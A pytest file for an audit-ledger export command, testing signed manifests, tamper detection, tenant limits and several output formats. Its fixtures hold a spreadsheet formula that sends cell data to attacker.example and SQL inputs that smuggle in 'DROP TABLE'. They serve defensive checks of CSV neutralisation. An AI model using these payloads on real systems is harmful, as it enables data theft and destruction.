"""`counterfoil export` and the check of what it wrote, over what a real service recorded."""

from __future__ import annotations

import csv
import importlib
import json
import sqlite3
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from jsonschema import Draft202012Validator

from counterfoil.cli import main
from counterfoil.core.columns import CLOSED, EXECUTABLE, OPENED, neutral
from counterfoil.core.tree import Frontier
from counterfoil.errors import LedgerCorrupt, LedgerUnavailable
from counterfoil.ledger.bulk import Bulk
from counterfoil.ledger.client import LedgerClient
from counterfoil.ledger.keys import load_master, read_verifier_key
from counterfoil.ledger.reader import Reader
from counterfoil.ledger.sealing import Master
from deployment import Deployment, deployed
from evidence import ROOT
from service import sql_request

FORMULA = '=HYPERLINK("http://attacker.example/?"&A1,"ok")'
VECTORS = ROOT / "tests" / "vectors"


@pytest.fixture(scope="module")
def deployment(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Deployment]:
    with deployed(tmp_path_factory.mktemp("export")) as started:
        for tenant in (started.acme, started.globex):
            run = started.opened(tenant, prompt=FORMULA)["access_token"]
            allowed = started.ask(run)["decision_id"]
            started.call("POST", f"/decisions/{allowed}/outcome", run, {"status": "ok"})
            started.call("POST", "/authorize", run, sql_request("DROP TABLE public.invoices", None))
            started.call(
                "POST", "/authorize", run, sql_request("SELECT 1; DROP TABLE secret", None)
            )
        yield started


@pytest.fixture
def auditor(deployment: Deployment, tmp_path: Path) -> list[str]:
    token = tmp_path / "auditor.jwt"
    token.write_text(deployment.acme.person("carol", ["compliance"]))
    return ["--token-file", str(token), "--config", str(deployment.folder / "counterfoil.toml")]


@pytest.fixture(autouse=True)
def _socket(deployment: Deployment, monkeypatch: pytest.MonkeyPatch) -> None:
    """The command finds the running writer as the service's own configuration does."""
    directory = str(deployment.service.run_directory)
    monkeypatch.setenv("COUNTERFOIL_SERVER__RUN_DIRECTORY", directory)


Export = Callable[..., tuple[Path, dict[str, Any]]]


@pytest.fixture
def export(auditor: list[str], tmp_path: Path) -> Export:
    def exported(name: str, *arguments: str) -> tuple[Path, dict[str, Any]]:
        path = tmp_path / name
        assert main(["export", "--output", str(path), *arguments, *auditor]) == 0
        manifest = json.loads((tmp_path / f"{name}.manifest.json").read_text())
        return path, manifest["manifest"]

    return exported


def checked(deployment: Deployment, path: Path) -> int:
    key = deployment.service.keys / "receipt.pub"
    manifest = path.with_name(path.name + ".manifest.json")
    return main(["verify", str(manifest), f"--key={key}"])


def lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()]


def test_a_whole_export_is_checked_with_the_public_key_alone(
    deployment: Deployment, export: Export, capsys: pytest.CaptureFixture[str]
) -> None:
    path, manifest = export("all.jsonl")
    records = lines(path)
    assert [item["index"] for item in records] == list(range(manifest["size"]))
    assert manifest["records"] == len(records) == manifest["size"]
    assert manifest["whole"]
    assert {item["leaf"]["tenant"] for item in records} == {"acme"}
    assert FORMULA not in path.read_text()
    assert checked(deployment, path) == 0
    assert f"{len(records)} records, each checked" in capsys.readouterr().out


def test_an_opened_export_binds_each_word_to_its_record(
    deployment: Deployment, export: Export, capsys: pytest.CaptureFixture[str]
) -> None:
    path, manifest = export("open.jsonl", "--open", "--run", _run(deployment))
    said = [item["opened"]["prompt"]["text"] for item in lines(path) if "prompt" in item["opened"]]
    assert said == [FORMULA]
    assert not manifest["whole"]
    assert checked(deployment, path) == 0
    capsys.readouterr()
    path.write_text(path.read_text().replace("attacker.example", "harmless.example"))
    assert checked(deployment, path) == 1
    assert "is not the file of the manifest" in capsys.readouterr().out


def _run(deployment: Deployment) -> str:
    slices = deployment.app.extensions["counterfoil"].ledger.slices
    piece = slices.forwards("acme", after=-1, most=1, choose=lambda _: True)
    run: str = piece.events[0].decision_id
    return run


TAMPERING: dict[str, Callable[[dict[str, Any]], None]] = {
    "the count": lambda whole: whole["manifest"].update(records=99),
    "the filters": lambda whole: whole["manifest"].update(filters={}),
    "another time": lambda whole: whole["manifest"].update(made_at="2020-01-01T00:00:00Z"),
    "the record's leaf": lambda whole: whole.update(
        leaf=whole["leaf"].replace('"jsonl"', '"other"')
    ),
    "the receipt": lambda whole: whole["receipt"].update(signature="A" * 86),
    "another log": lambda whole: whole["manifest"].update(log="x/log/y"),
    "no object": lambda whole: whole.update(manifest=[]),
}


@pytest.mark.parametrize("what", TAMPERING)
def test_a_changed_manifest_is_found(
    deployment: Deployment, export: Export, what: str, capsys: pytest.CaptureFixture[str]
) -> None:
    path, _ = export("some.jsonl", "--effect", "deny")
    assert checked(deployment, path) == 0  # control
    manifest = path.with_name(path.name + ".manifest.json")
    whole = json.loads(manifest.read_text())
    TAMPERING[what](whole)
    manifest.write_text(json.dumps(whole))
    assert checked(deployment, path) == 1
    assert "NOT VERIFIED" in capsys.readouterr().out


def test_filters_choose_and_a_cursor_goes_on(deployment: Deployment, export: Export) -> None:
    path, manifest = export("denied.jsonl", "--effect", "deny")
    assert [item["leaf"]["plain"]["effect"] for item in lines(path)] == ["deny"]
    tool, _ = export("tool.jsonl", "--tool", "run_sql", "--effect", "allow")
    assert [item["leaf"]["event"] for item in lines(tool)] == ["decided"]
    other, _ = export("none.jsonl", "--subject", "bert", "--issuer", deployment.acme.issuer)
    assert lines(other) == []
    later, next_one = export("later.jsonl", "--after", manifest["cursor"])
    assert next_one["first"] == manifest["size"]
    events = [item["leaf"]["event"] for item in lines(later)]
    assert events == ["exported", "exported", "exported"]  # what was exported since, by whom
    assert checked(deployment, later) == 0


def test_what_was_broken_off_goes_on_and_is_the_same_file(  # noqa: PLR0917 -- fixtures
    deployment: Deployment,
    export: Export,
    auditor: list[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """The writer refuses the record: no file gets its name, and what was written is kept."""
    run = ("--run", _run(deployment))
    whole, _ = export("whole.jsonl", *run)

    def refused(*_: object, **__: object) -> None:
        raise LedgerUnavailable("the disk is full")

    partial = tmp_path / "b.jsonl.partial"
    with monkeypatch.context() as broken:
        broken.setattr(LedgerClient, "append", refused)
        command = ["export", "--output", str(tmp_path / "b.jsonl"), *run, *auditor]
        assert main(command) == 1
    assert "same command again" in capsys.readouterr().err
    assert not (tmp_path / "b.jsonl").exists()
    assert partial.read_bytes() == whole.read_bytes()
    inode = partial.stat().st_ino
    with partial.open("ab") as torn:
        torn.write(b'{"index":')  # a line that a kill left behind
    again, _ = export("b.jsonl", *run)
    assert again.stat().st_ino == inode
    assert again.read_bytes() == whole.read_bytes()
    assert checked(deployment, again) == 0
    assert not partial.with_name("b.jsonl.partial.json").exists()


def test_the_columns_are_those_of_the_documentation() -> None:
    words = (ROOT / "docs" / "auditing.md").read_text().split()
    for columns in (CLOSED, OPENED):
        assert f"`{' '.join(columns)}`" in " ".join(words)


def test_a_file_is_never_replaced(export: Export, tmp_path: Path, auditor: list[str]) -> None:
    path, _ = export("once.jsonl")
    before = path.read_bytes()
    with pytest.raises(SystemExit, match="2"):
        main(["export", "--output", str(path), *auditor])
    assert path.read_bytes() == before


@pytest.mark.parametrize(
    ("who", "code"),
    [("person", "caller"), ("agent", "agent"), ("nobody", "token"), ("other", "globex")],
)
def test_only_an_auditor_exports_and_only_their_tenant(
    deployment: Deployment,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    who: str,
    code: str,
) -> None:
    powerful = deployment.acme.person("root", ["compliance", "developers"])
    tokens = {
        "person": deployment.acme.person("alice"),
        "agent": deployment.opened(source=powerful)["access_token"],
        "nobody": "x",
        "other": deployment.globex.person("carol", ["compliance"]),
    }
    (tmp_path / "token").write_text(tokens[who])
    config = ["--config", str(deployment.folder / "counterfoil.toml")]
    output = tmp_path / "out.jsonl"
    exit_code = main(
        ["export", "--output", str(output), "--token-file", str(tmp_path / "token"), *config]
    )
    if who == "other":
        assert exit_code == 0
        assert {item["leaf"]["tenant"] for item in lines(output)} == {"globex"}
    else:
        assert exit_code == 1
        assert list(tmp_path.iterdir()) == [tmp_path / "token"]
        assert code in capsys.readouterr().err.lower()


def test_no_cell_of_csv_is_a_formula(export: Export) -> None:
    path, manifest = export("all.csv", "--format", "csv", "--open")
    with path.open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == manifest["records"]
    assert list(rows[0]) == [*CLOSED, *OPENED]
    assert f"'{FORMULA}" in {row["prompt"] for row in rows}
    for row in rows:
        for cell in row.values():
            assert not cell.lstrip(" ").startswith(EXECUTABLE), cell


@pytest.mark.parametrize("start", [*EXECUTABLE, "  =", " \t@"])
def test_each_start_that_a_spreadsheet_executes_is_neutralised(start: str) -> None:
    assert neutral(start + "1+1") == f"'{start}1+1"
    assert neutral("a" + start) == "a" + start  # control


@pytest.mark.parametrize(("flag", "version"), [("1.8", "1.8.0"), ("1.9", "1.9.0-dev")])
@pytest.mark.parametrize("opened", [True, False])
def test_ocsf_is_valid_by_the_published_schema(
    export: Export,
    flag: str,
    version: str,
    opened: bool,  # noqa: FBT001
) -> None:
    name = f"ocsf_{version.replace('.', '_').replace('-', '_')}.json"
    validator = Draft202012Validator(json.loads((VECTORS / name).read_text()))
    more = ["--open"] if opened else []
    path, manifest = export("o.jsonl", "--format", "ocsf", "--ocsf-version", flag, *more)
    events = lines(path)
    assert len(events) == manifest["records"] >= 3
    for event in events:
        assert [error.message for error in validator.iter_errors(event)] == []
        assert event["metadata"]["version"] == version
    standing = {e["status_detail"]: (e["action_id"], e["disposition_id"]) for e in events}
    assert {(1, 1), (2, 2), (2, 14)} == set(standing.values())
    for broken in ({**events[0], "made_up": 1}, {**events[0], "type_uid": "600301"}):
        assert not validator.is_valid(broken)  # control: closed, and typed


def test_cloudevents_are_unique_and_complete(export: Export) -> None:
    path, manifest = export("c.jsonl", "--format", "cloudevents", "--open")
    events = lines(path)
    assert len({(event["source"], event["id"]) for event in events}) == manifest["records"]
    for event in events:
        assert event["specversion"] == "1.0"
        assert event["type"] == f"io.counterfoil.{event['data']['leaf']['event']}.v1"
        assert all(name.isalnum() and name == name.lower() for name in event)


def test_otlp_lines_are_requests_of_log_records(export: Export) -> None:
    path, manifest = export("l.jsonl", "--format", "otlp")
    records = [
        record
        for request in lines(path)
        for resource in request["resourceLogs"]
        for scope in resource["scopeLogs"]
        for record in scope["logRecords"]
    ]
    assert len(records) == manifest["records"]
    assert {record["severityText"] for record in records} == {"INFO", "WARN"}
    for record in records:
        assert record["timeUnixNano"].isdigit()
        names = {item["key"] for item in record["attributes"]}
        assert "counterfoil.event_id" in names


def test_parquet_has_the_right_types_for_another_reader(export: Export) -> None:
    path, manifest = export("all.parquet", "--format", "parquet", "--open")
    duckdb = importlib.import_module("duckdb")
    table = duckdb.read_parquet(str(path))
    types = dict(zip(table.columns, map(str, table.types), strict=True))
    assert list(types) == [*CLOSED, *OPENED]
    assert types["index"] == "BIGINT"
    assert types["time"] == "TIMESTAMP WITH TIME ZONE"
    assert types["reasons"] == "VARCHAR[]"
    assert types["effect"] == "VARCHAR"
    ((count, prompts),) = table.aggregate("count(*), count(prompt)").fetchall()
    assert count == manifest["records"]
    assert prompts > 0
    denied = table.filter("effect = 'deny' AND time > '2026-01-01'")
    (effects,) = denied.aggregate("count(*)").fetchall()
    assert effects == (1,)


def test_parquet_without_its_library_says_what_to_install(
    tmp_path: Path,
    auditor: list[str],
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    def missing(name: str) -> Any:
        if name.startswith("pyarrow"):
            raise ModuleNotFoundError(name)
        return real(name)

    real = importlib.import_module
    monkeypatch.setattr("counterfoil.cli.export_parquet.importlib.import_module", missing)
    output = str(tmp_path / "x.parquet")
    assert main(["export", "--format", "parquet", "--output", output, *auditor]) == 78
    assert "counterfoil[parquet]" in capsys.readouterr().err


def test_who_exported_what_is_recorded(deployment: Deployment, export: Export) -> None:
    _, manifest = export(
        "r.jsonl", "--open", "--subject", "alice", "--issuer", deployment.acme.issuer
    )
    slices = deployment.app.extensions["counterfoil"].ledger.slices
    (event,) = slices.backwards("acme", before=None, most=1, choose=lambda _: True).events
    assert event.kind == "exported"
    assert event.plain["opened"] is True
    assert event.plain["about"] == slices.subject_key("acme", (deployment.acme.issuer, "alice"))
    assert b'"carol"' in event.payload["reader"]
    assert "alice" not in json.dumps(manifest)  # whom it was about goes with that person


def test_an_edited_ledger_is_not_exported(deployment: Deployment, tmp_path: Path) -> None:
    """A copy with one leaf changed: nothing of it gets a name, for its root is another."""
    copy, keys = tmp_path / "copy.db", deployment.service.keys
    with sqlite3.connect(deployment.service.database) as source, sqlite3.connect(copy) as target:
        source.backup(target)
    key = read_verifier_key(keys / "receipt.pub")
    master = Master(load_master(keys, create=False))

    def read() -> int:
        reader = Reader(copy, master, lambda: key)
        try:
            pieces = Bulk(reader, "acme", Frontier()).pieces(sealed=False)
            return sum(len(rows) for rows in pieces)
        finally:
            reader.close()

    assert read() > 0  # control
    with sqlite3.connect(copy) as edited:
        edited.execute(
            "UPDATE entries SET leaf = CAST(replace(CAST(leaf AS TEXT), '\"deny\"', '\"allow\"')"
            " AS BLOB)"
        )
    with pytest.raises(LedgerCorrupt, match="not those of the signed checkpoint"):
        read()
